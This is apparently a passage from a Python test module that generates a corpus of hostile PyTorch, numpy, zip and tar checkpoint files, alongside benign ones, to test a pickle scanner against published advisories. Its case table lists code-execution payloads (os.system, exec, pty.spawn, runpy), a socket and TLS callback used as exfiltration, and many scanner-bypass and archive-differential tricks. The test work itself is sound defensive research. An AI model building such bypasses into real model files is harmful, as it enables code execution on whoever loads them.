    Case("ssl-get-server-certificate", ".npy", ssl_certificate, ("ssl.get_server_certificate",),
         "an object array whose pickle calls ssl.get_server_certificate (DNS/TLS exfiltration)",
         "picklescan dns_exfiltration.npy", effect="connect", network=True, wrap=npy),
    Case("socket-create-connection", ".pkl", socket_connect, ("socket.create_connection",),
         "socket.create_connection((host, port))", "picklescan malicious7",
         effect="connect", network=True),
    Case("numpy-testing-runstring", ".pkl", runstring,
         ("numpy.testing._private.utils.runstring",), "runstring(code, {}) is exec",
         "picklescan malicious22"),
    Case("timeit-setup", ".pkl", timeit_setup, ("timeit.timeit",),
         "timeit.timeit('', setup=code) runs code", "picklescan malicious21"),
    Case("cprofile-run", ".pkl", cprofile_run, ("cProfile.run",), "cProfile.run(code) is exec",
         f"{GHSA}49gj-c84q-6qm9"),
    Case("venv-create", ".pkl", venv_create, ("venv.create",), "venv.create(dir) writes a tree",
         "picklescan malicious20"),
    Case("torch-inductor-compile-file", ".pkl", inductor_compile,
         ("torch._inductor.codecache.compile_file",), "compile_file(in, out, cmd) runs cmd",
         "picklescan malicious17", needs=("torch._inductor.codecache:compile_file",)),
    Case("pickle-loads-nested", ".pkl", pickle_loads, ("_pickle.loads",),
         "_pickle.loads(data): a pickle in the pickle", "picklescan malicious13"),
    Case("partial-torch-load", ".pkl", partial_torch_load,
         ("torch.serialization.load",),
         "functools.partial(torch.load, other, weights_only=False)()", "picklescan malicious19"),
    Case("attrgetter-import", ".pkl", attrgetter_import,
         ("operator.attrgetter", "builtins.__import__"),
         "attrgetter('system')(__import__('os'))(cmd)", "picklescan malicious12"),
    Case("memo-keyerror", ".pkl", memo_keyerror, ("os.system",),
         "os.system, then a BINGET of a memo key never stored", "picklescan keyerror-exploit"),
    Case("memo-type-confusion", ".pkl", memo_type_confusion, ("os.system",),
         "os.system, then STACK_GLOBAL of (42, 'os')", "picklescan type-confusion-exploit"),
    Case("zip-data-txt-eval", ".zip", eval_p4, ("builtins.eval",),
         "a zip whose only member, data.txt, is an eval pickle", "issue 11; picklescan",
         wrap=data_txt),
    Case("zip-crc-corrupted", ".pt", eval_p4, ("builtins.eval",),
         "torch zip with wrong CRCs (zipfile refuses it, torch does not check)",
         "picklescan malicious1_crc", wrap=crc_corrupted),
    # fickling's own advisories (GHSA-wfq2-52f7-7qvj, -q5qq-mvfm-j35x, -r7v6-mfhq-g3m2).
    Case("runpy-run-path", ".pkl", runpy_run_path, ("runpy.run_path",),
         "runpy.run_path(file) runs a file the attacker placed", "fickling GHSA-wfq2-52f7-7qvj"),
    Case("multiprocessing-spawnv-passfds", ".pkl", spawnv_passfds,
         ("multiprocessing.util.spawnv_passfds",), "spawnv_passfds forks and execs a shell",
         "fickling GHSA-q5qq-mvfm-j35x"),
    Case("code-interactive-runsource", ".pkl", interactive_runsource,
         ("code.InteractiveInterpreter", "builtins.getattr"),
         "getattr(code.InteractiveInterpreter(), 'runsource')(src)",
         "fickling GHSA-q5qq-mvfm-j35x"),
    Case("pty-spawn", ".pkl", pty_spawn, ("pty.spawn",), "pty.spawn(argv) runs a command",
         "fickling GHSA-r7v6-mfhq-g3m2"),
    # Bypass classes: ways to reach code without a name on a list.
    Case("copyreg-add-extension", ".pkl", copyreg_extension, ("copyreg.add_extension",),
         "copyreg.add_extension('posix', 'system', n), then EXT2 n", "modelaudit"),
    Case("typing-get-type-hints", ".pkl", type_hints, ("typing.get_type_hints",),
         "get_type_hints(SimpleNamespace(__annotations__={'x': code})) evaluates code",
         "found here"),
    Case("inspect-getattr-static", ".pkl", inspect_getattr, ("inspect.getattr_static",),
         "inspect.getattr_static(pathlib.os, 'system')", "fickling (inspect)"),
    Case("build-module-then-computed-global", ".pkl", build_module_then_computed,
         ("BUILD on <class or function json.decoder>", "<computed at load time>.*"),
         "BUILD sets json.decoder attributes, STACK_GLOBAL of the values read back",
         "issue 11"),
    Case("computed-stack-global", ".pkl", computed_names, ("<computed at load time>.*",),
         "STACK_GLOBAL(str('posix'), str('system'))", "issue 11"),
    Case("short-frame", ".pkl", short_frame, ("posix.system",),
         "the call after a FRAME that declares 1 MiB (pickle._loads runs it)", "issue 11",
         proof="pure-pickle"),
    Case("legacy-truncated", ".pt", exec_p4, ("builtins.exec",),
         "legacy file whose data pickle runs exec, storage keys cut short", "issue 11",
         wrap=legacy_truncated),
    Case("legacy-magic-bypass", ".pt", exec_p4, ("builtins.exec",),
         "legacy file whose magic-number pickle runs exec", "picklescan 2025 (magic number)",
         wrap=legacy_magic_bypass),
    # Zip differentials.
    Case("zip-local-name-differs", ".pt", exec_p4, ("builtins.exec",),
         "hostile data.pkl whose local header names it xxxx.pkl (torch reads the directory)",
         "issue 11; picklescan malicious1_central_directory", wrap=local_name_differs),
    Case("zip-duplicate-payload-first", ".pt", exec_p4, ("builtins.exec",),
         "two archive/data.pkl, the hostile one first (torch 2.5 reads it, 2.13 the other)",
         "issue 11", wrap=lambda p: duplicates(p, payload_first=True)),
    Case("zip-duplicate-payload-second", ".pt", exec_p4, ("builtins.exec",),
         "two archive/data.pkl, the hostile one second (torch 2.13 reads it, 2.5 the other)",
         "issue 11", wrap=lambda p: duplicates(p, payload_first=False)),
    # TorchScript.
    Case("torchscript-setstate", ".pt", torchscript_setstate, ("TorchScript __setstate__ in *",),
         "TorchScript __setstate__ that creates a file: torch <= 2.5 runs it under "
         "torch.load(weights_only=True) (CVE-2025-32434)", "issue 11; CVE-2025-32434",
         proof="torchscript", torch_runs="<2.6"),
    Case("torchscript-constants-pkl", ".pt", torchscript_member("constants.pkl"),
         ("posix.system",), "TorchScript archive whose constants.pkl runs a command",
         "issue 11", proof=""),
    Case("torchscript-data-pkl", ".pt", torchscript_member("data.pkl"), ("posix.system",),
         "TorchScript archive whose data.pkl runs a command", "issue 11", proof=""),
    # numpy containers.
    Case("npy-object-array", ".npy", exec_p4, ("builtins.exec",),
         "object array whose pickle runs exec", "issue 11; picklescan object_array.npy",
         wrap=npy),
    Case("npz-object-array", ".npz", exec_p4, ("builtins.exec",),
         "npz with a hostile object array beside a clean one", "issue 11", wrap=npz),
    Case("npz-deflated-object-array", ".npz", exec_p4, ("builtins.exec",),
         "np.savez_compressed layout (deflated members)", "picklescan object_arrays_compressed",
         wrap=lambda p: npz(p, zipfile.ZIP_DEFLATED)),
    Case("npy-in-zip-as-bin", ".zip", exec_p4, ("builtins.exec",),
         "an object-array .npy stored as weights.bin in a zip", "found here",
         wrap=npy_in_zip_as_bin),
    # tar archives.
    Case("legacy-tar", ".tar", exec_p4, ("builtins.exec",),
         "torch < 0.4 tar whose `pickle` member runs exec", "modelaudit tar scanner",
         wrap=legacy_tar),
    Case("zip-in-tar", ".tar", exec_p4, ("builtins.exec",),
         "a tarball holding a hostile torch zip", "modelaudit tar scanner", wrap=zip_in_tar),
    # Compressed files (torch reads none; pickle.load / joblib / numpy.load of the stream do).
    Case("gzip-pickle", ".pkl.gz", exec_p4, ("builtins.exec",),
         "a gzip-compressed pickle (model.pkl.gz)", "modelaudit compressed scanner",
         wrap=gzipped),
    Case("bz2-torch-zip", ".pt.bz2", exec_p4, ("builtins.exec",),
         "a bzip2-compressed torch zip whose data.pkl runs exec", "modelaudit compressed scanner",
         wrap=bz2_torch_zip),
    Case("xz-npy", ".npy.xz", exec_p4, ("builtins.exec",),
         "an xz-compressed .npy object array", "modelaudit compressed scanner", wrap=xz_npy),
    # Memory corruption through names a naive fix allowlists.
    Case("numpy-forged-dtype", ".pt", forged_dtype,
         ("numpy dtype state hiding objects (*",),
         "float64 array whose dtype hides an object field: numpy reads a pointer from the file",
         "found here", effect="crash", proof=""),
    Case("numpy-forged-dtype-big", ".pt", forged_dtype_big,
         ("numpy dtype state hiding objects (*",),
         "the same, 1.2 MB (the scanner's fast path)", "found here", effect="crash", proof=""),
    Case("tensor-setitem", ".pt", tensor_setitem, ("SETITEM on torch.Tensor",),
         "SETITEM on a tensor while loading (torch < 2.10; CVE-2026-24747)",
         "modelaudit CVE-2026-24747", effect="none", proof="", torch_runs="<2.10"),
)  # fmt: skip


#: The class of each case that is not an advisory's name (for the side-by-side table).
KINDS: dict[str, str] = {
    **dict.fromkeys(
        ("memo-keyerror", "memo-type-confusion", "copyreg-add-extension", "typing-get-type-hints",
         "inspect-getattr-static", "build-module-then-computed-global", "computed-stack-global",
         "short-frame", "partial-torch-load", "attrgetter-import", "pydoc-locate-methodcaller"),
        "bypass class",
    ),
    **dict.fromkeys(
        ("zip-data-txt-eval", "zip-crc-corrupted", "legacy-truncated", "legacy-magic-bypass",
         "zip-local-name-differs", "zip-duplicate-payload-first", "zip-duplicate-payload-second",
         "npy-object-array", "npz-object-array", "npz-deflated-object-array", "npy-in-zip-as-bin",
         "legacy-tar", "zip-in-tar", "ssl-get-server-certificate", "gzip-pickle",
         "bz2-torch-zip", "xz-npy"),
        "container",
    ),
    **dict.fromkeys(
        ("torchscript-setstate", "torchscript-constants-pkl", "torchscript-data-pkl"), "TorchScript"
    ),
    **dict.fromkeys(("numpy-forged-dtype", "numpy-forged-dtype-big", "tensor-setitem"), "memory"),
}  # fmt: skip


def kind_of(case: Case) -> str:
    """The class of a case: an advisory's name, a bypass class, a container, ..."""
    return KINDS.get(case.id, "advisory name")


def matches(flagged: set[str], expected: str) -> bool:
    """Whether a flagged name satisfies one `Case.dangerous` entry (a trailing * is a prefix)."""
    if expected.endswith("*"):
        return any(name.startswith(expected[:-1]) for name in flagged)
    return expected in flagged


def build_corpus(
    folder: Path, sentinels: Path, listener: Listener
) -> list[tuple[Case, Path, Path]]:
    """Write every case into `folder`; each one's sentinel lives in `sentinels`."""
    folder.mkdir(parents=True, exist_ok=True)
    sentinels.mkdir(parents=True, exist_ok=True)
    out = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit, duplicate zip names
        for case in CASES:
            sentinel = sentinels / case.id
            port = listener.port(sentinel) if case.network else 0
            path = folder / f"{case.id}{case.suffix}"
            path.write_bytes(case.build(sentinel, port))
            out.append((case, path, sentinel))
    return out


# --- benign checkpoints ------------------------------------------------------------------

#: A module of "the project's own" classes, importable where the files are
#: written and loaded (the tests put the corpus folder on sys.path).
PROJECT_MODULE = "ckpt_corpus_project"
PROJECT_SOURCE = """
import dataclasses
import enum


class Phase(enum.Enum):
    TRAIN = "train"
    EVAL = "eval"


@dataclasses.dataclass
class RunConfig:
    lr: float = 0.1
    epochs: int = 3
"""


def _save(obj: object, **kwargs: object) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kwargs)  # type: ignore[arg-type]
    return buf.getvalue()


def _rezip(data: bytes, method: int = zipfile.ZIP_STORED, extra: tuple[str, bytes] | None = None,
           crc: bool = True) -> bytes:  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        entries = [(n, zf.read(n)) for n in zf.namelist()]
    if extra:
        entries.append(extra)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for n, d in entries:
            zf.writestr(n, d)
    raw = bytearray(buf.getvalue())
    if not crc:  # what torch.serialization.set_crc32_options(False) writes
        for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
            at = 0
            while (at := raw.find(sig, at)) >= 0:
                struct.pack_into("<L", raw, at + off, 0)
                at += 4
    return bytes(raw)


def benign_files() -> dict[str, bytes]:
    """Harmless checkpoints, name -> bytes, as this environment's torch and numpy write them."""
    import argparse
    import collections
    import datetime
    import decimal
    import fractions
    import pathlib
    import uuid

    import numpy as np
    import torch

    project = __import__(PROJECT_MODULE)
    state = {"w": torch.arange(4.0), "step": 3}
    rng = np.random.default_rng(0)
    out = {
        "state-dict": _save(state),
        "state-dict-protocol4": _save(state, pickle_protocol=4),
        "legacy-format": _save(state, _use_new_zipfile_serialization=False),
        "numpy-scalars": _save({"best": np.float64(0.5), "epoch": np.int64(3), **state}),
        "numpy-array": _save({"hist": np.arange(6, dtype=np.float32).reshape(2, 3)}),
        "numpy-object-array": _save({"names": np.array(["a", "b"], dtype=object)}),
        "numpy-structured-array": _save({"rec": np.zeros(2, dtype=[("x", "f4"), ("y", "i4")])}),
        "numpy-rng": _save({"rng": rng, "legacy": np.random.RandomState(0)}),
        "numpy-rng-state-dict": _save({"rng": rng.bit_generator.state}),
        "argparse-namespace": _save({"args": argparse.Namespace(lr=0.1, tag="x"), **state}),
        "pathlib-path": _save({"out": pathlib.Path("/tmp/run")}),
        "builtins-values": _save(
            {
                "s": {1, 2},
                "f": frozenset({3}),
                "z": 1 + 2j,
                "sl": slice(1, 5, 2),
                "r": range(3),
                "b": b"xy",
                "ba": bytearray(b"z"),
            }
        ),
        "collections": _save(
            {
                "od": collections.OrderedDict(a=1),
                "c": collections.Counter("aab"),
                "dq": collections.deque([1, 2]),
            }
        ),
        "defaultdict": _save({"dd": collections.defaultdict(list, {"a": [1]})}),
        "datetime-decimal-uuid": _save(
            {
                "t": datetime.datetime(2025, 1, 2, 3, 4, 5),
                "d": datetime.date(2025, 1, 2),
                "td": datetime.timedelta(seconds=3),
                "dec": decimal.Decimal("1.5"),
                "fr": fractions.Fraction(1, 3),
                "id": uuid.UUID(int=7),
            }
        ),
        "project-enum-dataclass": _save({"phase": project.Phase.TRAIN, "cfg": project.RunConfig()}),
        "torch-values": _save(
            {
                "size": torch.Size([2, 3]),
                "dev": torch.device("cpu"),
                "dt": torch.float16,
                "c": torch.ones(2, dtype=torch.complex64),
                "bf": torch.ones(2, dtype=torch.bfloat16),
                "sp": torch.eye(3).to_sparse(),
                "rng": torch.get_rng_state(),
            }
        ),
        "optimizer-state": _save(torch.optim.Adam(torch.nn.Linear(2, 2).parameters()).state_dict()),
        "whole-module": _save(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())),
        "parameter": _save({"p": torch.nn.Parameter(torch.ones(2))}),
        "torchscript": _scripted(None),
        "crc-less": _rezip(_save(state), crc=False),
        "rezipped-deflated": _rezip(_save(state), zipfile.ZIP_DEFLATED),
        "rezipped-readme": _rezip(_save(state), extra=("README", b"hi")),
        "upper-case-main": torch_zip(
            [(n.replace("data.pkl", "DATA.PKL"), d) for n, d in torch_saved()]
        ),
    }
    return out


def write_benign(folder: Path, prefix: str = "") -> dict[str, Path]:
    """Write `benign_files()` (and the project module they need) into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{PROJECT_MODULE}.py").write_text(PROJECT_SOURCE)
    sys.path.insert(0, str(folder))
    paths = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in benign_files().items():
            paths[prefix + name] = folder / f"{prefix}{name}.pt"
            paths[prefix + name].write_bytes(data)
    return paths


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "benign":
        import json

        written = write_benign(Path(sys.argv[2]), prefix=sys.argv[3])
        print(json.dumps({k: str(v) for k, v in written.items()}))
    else:
        raise SystemExit("usage: python tests/advisory_corpus.py benign FOLDER PREFIX")
